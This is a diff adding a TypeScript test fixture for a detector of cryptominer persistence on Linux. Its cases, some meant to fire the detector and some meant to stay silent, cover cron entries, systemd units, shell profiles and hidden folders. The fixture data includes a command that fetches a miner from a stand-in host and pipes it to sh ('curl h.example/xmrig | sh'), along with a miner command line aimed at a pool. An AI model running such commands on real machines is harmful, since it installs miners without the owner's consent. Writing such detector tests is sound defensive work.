@@ -1,0 +1,105 @@
+import type { DetectorFixture } from '../../../tests/fixture.ts';
+import { at, autostartOf, codeOf, configOf, processOf } from '../../../tests/machine-story.ts';
+
+const unit = '/etc/systemd/system/netd.service';
+
+export const fixture: DetectorFixture = {
+  fires: [
+    {
+      name: 'a cron line whose command names a pool and an account',
+      stage: 'configured',
+      seen: [
+        autostartOf({ starts: '/tmp/x -o pool.example.com:3333', mines: true, carries: 'miner', why: ['mines'] }),
+        at('/etc/cron.d/x', configOf(), 'config'),
+      ],
+    },
+    {
+      name: 'a cron line that fetches a miner',
+      stage: 'capability',
+      seen: [autostartOf({ starts: 'curl h.example/xmrig | sh', carries: 'miner', why: ['fetches-and-runs'] })],
+    },
+    {
+      name: 'a unit whose program has the code of a miner',
+      stage: 'capability',
+      seen: [
+        autostartOf({ mechanism: 'systemd', place: unit, name: 'netd.service', programs: ['/usr/lib/netd'] }),
+        at('/usr/lib/netd', codeOf(), 'executable'),
+      ],
+    },
+    {
+      name: 'a profile that runs a script which fetches a miner',
+      stage: 'capability',
+      seen: [
+        autostartOf({ mechanism: 'shell-profile', place: '/root/.profile', programs: ['/root/.a.sh'] }),
+        at('/root/.a.sh', codeOf({ purpose: 'fetches-miner', form: 'script' }), 'script'),
+      ],
+    },
+    {
+      name: 'a unit whose program is seen mining',
+      stage: 'configured',
+      seen: [
+        autostartOf({ mechanism: 'systemd', place: unit, name: 'netd.service', programs: ['/usr/lib/netd'] }),
+        processOf({ program: '/usr/lib/netd', why: ['mines', 'busy'] }),
+        at('/proc/7/cmdline', configOf()),
+      ],
+    },
+    {
+      name: 'an entry out of a hidden folder whose program is the parent of a miner',
+      stage: 'capability',
+      seen: [
+        autostartOf({ programs: ['/root/.x/watch'], why: ['from-hidden-folder'] }),
+        processOf({ why: ['mines', 'busy'], parents: [{ pid: 3, name: 'watch', program: '/root/.x/watch' }] }),
+      ],
+    },
+  ],
+  silent: [
+    { name: 'an ordinary entry', seen: [autostartOf({ starts: 'run-parts /etc/cron.hourly', carries: 'command' })] },
+    {
+      name: 'the unit of a service that was broken into',
+      seen: [
+        autostartOf({
+          mechanism: 'systemd',
+          place: '/etc/systemd/system/tomcat.service',
+          name: 'tomcat.service',
+          programs: ['/opt/tomcat/bin/run'],
+          why: ['not-packaged'],
+        }),
+        processOf({
+          unit: 'tomcat.service',
+          why: ['mines'],
+          parents: [{ pid: 3, name: 'run', program: '/opt/tomcat/bin/run' }],
+        }),
+      ],
+    },
+    {
+      name: 'the unit of cron, under which a miner runs',
+      seen: [
+        autostartOf({ mechanism: 'systemd', place: '/lib/systemd/system/cron.service', programs: ['/usr/sbin/cron'] }),
+        processOf({
+          why: ['mines'],
+          unit: 'cron.service',
+          parents: [{ pid: 2, name: 'cron', program: '/usr/sbin/cron' }],
+        }),
+      ],
+    },
+    {
+      name: 'the other entry of a file that starts a miner',
+      seen: [
+        autostartOf({ starts: 'run-parts /etc/cron.hourly', entry: '17 * * * * root run-parts /etc/cron.hourly' }),
+        autostartOf({ mechanism: 'ssh-key' }),
+        at('/etc/cron.d/x', configOf(), 'config'),
+      ],
+    },
+    {
+      name: 'a key on a machine that mines',
+      seen: [autostartOf({ mechanism: 'ssh-key', place: '/root/.ssh/authorized_keys' }), processOf({ why: ['mines'] })],
+    },
+    {
+      name: 'an interpreter that mines and is started elsewhere, too',
+      seen: [
+        autostartOf({ programs: ['/usr/bin/python3'], starts: '/usr/bin/python3 /opt/report.py' }),
+        processOf({ program: '/usr/bin/python3', command: 'python3 /tmp/m.py', why: ['mines'] }),
+      ],
+    },
+  ],
+};
